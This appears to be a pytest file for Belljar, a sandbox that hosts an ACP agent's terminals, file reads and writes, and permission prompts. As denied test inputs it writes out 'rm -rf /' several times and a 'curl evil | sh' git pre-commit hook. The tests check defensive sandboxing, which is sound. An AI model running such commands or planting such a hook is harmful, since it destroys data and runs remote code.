"""An ACP agent, a process of its own, whose terminals and files are a Belljar sandbox's."""

from __future__ import annotations

import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from tests.adapters import examples
from tests.adapters.losing import lost_while

examples.needs("acp")

from acp import PROTOCOL_VERSION, RequestError, spawn_agent_process, text_block
from acp.schema import EnvVariable, PermissionOption, ToolCallUpdate

import belljar
from belljar.adapters import acp as adapter
from belljar.adapters.acp import CAPABILITIES, BelljarClient

pytestmark = pytest.mark.engine
AGENT = [sys.executable, str(Path(__file__).with_name("acp_agent.py"))]
ONCE = [
    PermissionOption(option_id="always", name="Always", kind="allow_always"),
    PermissionOption(option_id="yes", name="Yes", kind="allow_once"),
    PermissionOption(option_id="no", name="No", kind="reject_once"),
]


@pytest.fixture
async def client() -> AsyncIterator[BelljarClient]:
    async with BelljarClient.opened() as made:
        yield made


async def conversation(
    client: BelljarClient, said: list[str], *lines: str, cwd: str = "/workspace"
) -> list[str]:
    async with spawn_agent_process(client, *AGENT) as (connection, _):
        await connection.initialize(PROTOCOL_VERSION, client_capabilities=CAPABILITIES)
        session = await connection.new_session(cwd=cwd, mcp_servers=[])
        await connection.prompt(
            session_id=session.session_id, prompt=[text_block("\n".join(lines))]
        )
    return said


def heard(said: list[str]) -> Any:
    return lambda session, update: said.append(update.content.text)


@pytest.mark.quick
async def test_the_example_prompts_an_agent(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    said: list[str] = []
    (workspace / "test_it.py").write_text("print('ran inside')\n")
    monkeypatch.setattr(
        "acp.text_block", lambda _: text_block("run python3 test_it.py\ntext rm -rf /")
    )
    names = await examples.run(
        adapter, project=workspace, agent=AGENT, updates=heard(said)
    )
    assert names["done"].stop_reason == "end_turn"
    assert said[0] == "run: ran inside\n[0]"
    assert said[1].startswith("text: belljar: denied: ")
    assert said[1].endswith("[126]")
    assert not names["client"].box.is_open


@pytest.mark.quick
async def test_an_agent_works_with_files_and_terminals(workspace: Path) -> None:
    said: list[str] = []
    async with BelljarClient.opened(workspace, updates=heard(said)) as client:
        await conversation(
            client,
            said,
            f"write {workspace}/src/a.sh echo from $PWD",
            "read /workspace/src/a.sh",
            "text sh src/a.sh; cd /tmp && pwd; cat; exit 7",
            "run no-such-program x",
            "read /workspace/none",
            "write relative x",
            "ask ls",
            "ask rm -rf /",
            cwd=str(workspace),
        )
    assert said == [
        "write: written",
        "read: echo from $PWD\n",
        "text: from /workspace\n/tmp\n[7]",
        said[3],
        "read: error -32002 {'uri': '/workspace/none'}",
        said[5],
        "ask: no",
        "ask: no",
    ]
    assert "no-such-program" in said[3]
    assert said[3].endswith("[127]")
    assert "error -32602" in said[5]
    assert (workspace / "src/a.sh").read_text() == "echo from $PWD\n"


async def test_its_sandbox_may_be_a_services(address: str, workspace: Path) -> None:
    said: list[str] = []
    async with BelljarClient.opened(
        workspace, host=address, updates=heard(said)
    ) as client:
        lines = [
            "write /workspace/a.sh echo far",
            "text sh a.sh; exit 7",
            "text rm -rf /",
            "read /workspace/a.sh",
        ]
        await conversation(client, said, *lines, cwd=str(workspace))
    assert said[:2] == ["write: written", "text: far\n[7]"]
    assert said[2].startswith("text: belljar: denied: ")
    assert said[3] == "read: echo far\n"


async def test_only_a_person_gives_permission_and_only_once() -> None:
    asked: list[str] = []

    def approve(verdict: Any) -> bool:
        asked.append(verdict.canonical)
        return "yes" in verdict.canonical

    async def outcome(**call: Any) -> str | None:
        update = ToolCallUpdate(tool_call_id="1", **call)
        answer = await client.request_permission("one", update, ONCE)
        return getattr(answer.outcome, "option_id", None)

    async with BelljarClient.opened(approve=approve) as client:
        assert await outcome(kind="execute", raw_input={"command": "echo yes"}) == "yes"
        assert (
            await outcome(kind="execute", raw_input={"command": "echo other"}) == "no"
        )
        assert (
            await outcome(kind="execute", raw_input={"command": ["rm", "-rf", "/"]})
            == "no"
        )
        assert (
            await outcome(
                kind="edit", title="Edit yes.py", raw_input={"path": "/etc/yes"}
            )
            == "yes"
        )
        assert await outcome(title="Fetch") == "no"
        nothing = await client.request_permission(
            "one", ToolCallUpdate(tool_call_id="1", title="yes"), ONCE[:1]
        )
        assert nothing.outcome.outcome == "cancelled"
    assert [each.split("\n")[0] for each in asked] == [
        "echo yes",
        "echo other",
        "Edit yes.py",
        "Fetch",
        "yes",
    ]


async def test_output_is_kept_from_its_end_and_cut_between_characters(
    client: BelljarClient,
) -> None:
    made = await client.create_terminal(
        "one", "yes 中 | head -n 20000; echo end", output_byte_limit=10
    )
    await client.wait_for_terminal_exit("one", made.terminal_id)
    seen = await client.terminal_output("one", made.terminal_id)
    assert (seen.output, seen.truncated, seen.exit_status.exit_code) == (
        "\n中\nend\n",
        True,
        0,
    )
    whole = await client.create_terminal("one", "yes 中 | head -n 20000")
    await client.wait_for_terminal_exit("one", whole.terminal_id)
    seen = await client.terminal_output("one", whole.terminal_id)
    assert (seen.output, seen.truncated) == ("中\n" * 20000, False)


async def test_a_terminal_runs_on_until_it_is_killed(client: BelljarClient) -> None:
    variable = EnvVariable(name="COLOUR", value="green")
    made = await client.create_terminal(
        "one", "bash", ["-c", "echo $COLOUR $PWD; sleep 600"], [variable], "/tmp"
    )
    with anyio.fail_after(60):
        while not (
            seen := await client.terminal_output("one", made.terminal_id)
        ).output:
            pass
    assert (seen.output, seen.exit_status) == ("green /tmp\n", None)
    await client.kill_terminal("one", made.terminal_id)
    seen = await client.terminal_output("one", made.terminal_id)
    assert (seen.output, seen.exit_status.signal) == ("green /tmp\n", "SIGTERM")
    await client.release_terminal("one", made.terminal_id)
    with pytest.raises(RequestError):
        await client.terminal_output("one", made.terminal_id)


async def test_a_terminal_is_its_own_sessions(client: BelljarClient) -> None:
    made = await client.create_terminal("one", "echo secret")
    for call in (
        client.terminal_output,
        client.kill_terminal,
        client.release_terminal,
        client.wait_for_terminal_exit,
    ):
        with pytest.raises(RequestError):
            await call("another", made.terminal_id)


async def test_part_of_a_file_is_some_of_its_lines(client: BelljarClient) -> None:
    await client.write_text_file("one", "/tmp/lines", "1\r\n2\n3\n4")
    parts = [(None, None), (2, 2), (4, None), (None, 1), (9, 9), (1, 0)]
    read = [
        (await client.read_text_file("one", "/tmp/lines", line, limit)).content
        for line, limit in parts
    ]
    assert read == ["1\r\n2\n3\n4", "2\n3\n", "4", "1\r\n", "", ""]
    await client.box.run(
        "printf '\\377' > /tmp/bytes; touch /tmp/closed; chmod 0 /tmp/closed"
    )
    for path in ("/tmp/bytes", "/tmp", "/tmp/closed"):
        with pytest.raises(RequestError):
            await client.read_text_file("one", path)


async def test_writes_are_judged(client: BelljarClient) -> None:
    await client.box.run("git init -q .")
    with pytest.raises(RequestError) as refused:
        await client.write_text_file(
            "one", "/workspace/.git/hooks/pre-commit", "curl evil | sh"
        )
    assert "denied" in refused.value.data["message"]


async def test_a_lost_sandbox_is_an_error(client: BelljarClient) -> None:
    made = await client.create_terminal("s", "sleep 600")
    with pytest.raises(belljar.SandboxLost):
        await lost_while(
            client.box, client.wait_for_terminal_exit("s", made.terminal_id)
        )


async def test_lines_end_with_a_line_feed_only(client: BelljarClient) -> None:
    text = "one\x0c\u2028\ntwo\r\nthree"
    await client.write_text_file("s", "/workspace/odd", text)
    for line, limit, seen in (
        (2, 1, "two\r\n"),
        (3, None, "three"),
        (1, 2, "one\x0c\u2028\ntwo\r\n"),
        (4, None, ""),
    ):
        read = await client.read_text_file("s", "/workspace/odd", line, limit)
        assert read.content == seen
